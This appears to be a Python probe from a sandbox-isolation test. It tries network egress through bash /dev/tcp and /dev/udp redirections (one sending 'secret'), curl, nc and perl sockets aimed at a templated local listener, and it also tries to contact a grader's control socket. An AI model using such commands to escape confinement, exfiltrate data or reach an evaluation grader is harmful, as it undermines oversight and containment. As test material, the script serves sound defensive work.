"""Let other programs of the machine do it: bash, curl, nc, ssh, ping.

Shows: the listener gets a connection, or PWNED on stdout.
"""

import subprocess
from contextlib import suppress

for command in (
    ["/bin/bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/@PORT@ && echo PWNED"],
    ["/bin/bash", "-c", "echo secret > /dev/udp/127.0.0.1/@PORT@"],
    ["curl", "-s", "-m", "1", "http://127.0.0.1:@PORT@/"],
    ["curl", "-s", "-m", "1", "--unix-socket", "@VICTIM@/grader/ctl.sock", "http://x/"],
    ["nc", "-w", "1", "127.0.0.1", "@PORT@"],
    ["perl", "-MIO::Socket::INET", "-e", "IO::Socket::INET->new(PeerAddr=>'127.0.0.1:@PORT@') and print 'PWNED'"],
):
    with suppress(OSError, subprocess.TimeoutExpired):
        subprocess.run(command, stdin=subprocess.DEVNULL, timeout=1, check=False)
